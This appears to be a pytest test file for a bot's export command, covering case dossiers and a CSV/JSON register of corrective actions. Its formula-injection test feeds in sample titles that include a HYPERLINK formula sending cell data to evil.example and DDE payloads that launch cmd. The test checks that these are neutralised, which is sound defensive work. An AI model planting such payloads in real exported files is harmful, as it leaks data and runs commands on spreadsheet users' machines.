"""``nonconformity-bot export`` as an operator runs it: a separate process reading DATABASE_URL,
a dossier in md, json or pdf, or the register of corrective actions in csv or json; on SQLite
and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from bot.devkit.local import LocalBot
from bot.dossier import register
from tests.e2e.test_export import assert_valid
from tests.scenarios import (
    acknowledge_notices,
    case_events,
    case_row,
    report,
    settle,
    wait_for,
    walk_to,
)

ROOT = Path(__file__).resolve().parents[2]
CLI = str(Path(sys.executable).parent / "nonconformity-bot")


def run_export(bot: LocalBot, *args: str) -> subprocess.CompletedProcess[bytes]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("SLACK_", "NCBOT_"))}
    env["DATABASE_URL"] = bot.database_url
    return subprocess.run(
        [CLI, "export", *args], cwd=ROOT, env=env, capture_output=True, timeout=120
    )


def test_a_dossier_in_each_format_names_every_event(any_db_bot: LocalBot, tmp_path: Path) -> None:
    bot = any_db_bot
    walk_to(bot, "measure_approved")
    acknowledge_notices(bot)
    events = case_events(bot)

    markdown = run_export(bot, "NC-1")  # Markdown on standard output by default
    assert (markdown.returncode, markdown.stderr) == (0, b"")
    text = markdown.stdout.decode()
    assert text.startswith("# Dossier NC-1: Scores drift")
    for event in events:
        assert f"| {event.seq} |" in text and event.hash in text

    out = tmp_path / "NC-1.json"
    result = run_export(bot, "NC-1", "--format", "json", "-o", str(out))
    assert (result.returncode, result.stdout, result.stderr) == (0, b"", b"")
    document = json.loads(out.read_text())
    assert_valid(document)
    assert [e["hash"] for e in document["timeline"]] == [e.hash for e in events]
    assert document["audit"]["intact"] is True

    pdf = tmp_path / "NC-1.pdf"
    result = run_export(bot, "NC-1", "--format", "pdf", "-o", str(pdf))
    assert (result.returncode, result.stdout, result.stderr) == (0, b"", b"")  # no log noise
    assert pdf.read_bytes().startswith(b"%PDF") and pdf.stat().st_size > 2000

    dutch = run_export(bot, "NC-1", "--language", "nl")
    assert dutch.returncode == 0, dutch.stderr
    assert dutch.stdout.decode().startswith("# Dossier NC-1: Scores drift")
    assert "## Zaak en AI-systeem" in dutch.stdout.decode()


def test_the_register_has_one_row_per_case_with_its_key_dates(
    any_db_bot: LocalBot, tmp_path: Path
) -> None:
    bot = any_db_bot
    walk_to(bot, "measure_approved")
    acknowledge_notices(bot)
    assert report(bot, title="Second report").status == 200
    wait_for(lambda: case_row(bot, 2).card_ts, what="the second card")
    settle(bot)
    first = {e.kind: e.at for e in reversed(case_events(bot))}  # first of each kind

    result = run_export(bot, "--all")  # CSV by default
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout.decode())))
    assert [r["ref"] for r in rows] == ["NC-1", "NC-2"]
    one, two = rows
    assert tuple(one) == register.COLUMNS
    assert one["state"] == "measure_approved" and one["measure"] == "withdraw"
    assert one["reported_at"] == case_row(bot).reported_at.isoformat()
    assert one["acknowledged_at"] == first["acknowledge"].isoformat()
    assert one["assessed_at"] == first["confirm"].isoformat()
    assert one["measure_proposed_at"] and one["measure_approved_at"]
    assert (one["measure_done_at"], one["closed_at"]) == ("", "")
    assert (one["notices_total"], one["notices_sent"], one["notices_acknowledged"]) == (
        "3",
        "3",
        "3",
    )
    assert (two["title"], two["state"], two["acknowledged_at"]) == ("Second report", "reported", "")

    out = tmp_path / "register.json"
    result = run_export(bot, "--all", "--format", "json", "-o", str(out))
    assert result.returncode == 0, result.stderr
    document = json.loads(out.read_text())
    assert document["schema_version"] == register.SCHEMA_VERSION
    assert [c["ref"] for c in document["cases"]] == ["NC-1", "NC-2"]
    assert document["cases"][0]["notices_acknowledged"] == 3
    assert document["cases"][1]["closed_at"] is None


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("NC-9",), "there is no case NC-9"),
        (("case one",), "'case one' is not a case reference"),
        (("NC-1", "--format", "docx"), "a dossier is md, json, pdf"),
        (("--all", "--format", "pdf"), "the register is csv, json"),
        (("NC-1", "--language", "fr"), "the language is en, nl, not 'fr'"),
        (("NC-1", "--all"), "give one case"),
        ((), "give one case"),
    ],
)
def test_bad_input_is_one_line_and_exit_2(
    bot: LocalBot, args: tuple[str, ...], message: str
) -> None:
    walk_to(bot, "reported")
    result = run_export(bot, *args)
    assert result.returncode == 2
    assert result.stdout == b""
    assert result.stderr.count(b"\n") == 1 and message in result.stderr.decode()


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def test_spreadsheet_formula_injection_is_neutralised_in_the_csv_register(bot: LocalBot) -> None:
    """A reporter's title that a spreadsheet would run as a formula is exported as text, with
    OWASP's leading ``'``; the JSON register keeps it exactly as typed."""
    for number, title in enumerate(FORMULAS, start=1):
        assert report(bot, title=title).status == 200
        wait_for(lambda n=number: case_row(bot, n).card_ts, what=f"card {number}")
    settle(bot)

    result = run_export(bot, "--all", "--format", "csv")
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout.decode())))
    assert [r["title"] for r in rows] == ["'" + title for title in FORMULAS]
    for row in rows:
        assert not any(str(cell).startswith(register.FORMULA_STARTS) for cell in row.values())

    result = run_export(bot, "--all", "--format", "json")
    assert [c["title"] for c in json.loads(result.stdout)["cases"]] == FORMULAS


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        (3, 3),
        (None, ""),
    ],
)
def test_each_cell_a_spreadsheet_would_run_gets_a_leading_quote(
    value: object, cell: object
) -> None:
    assert register.spreadsheet_cell(value) == cell
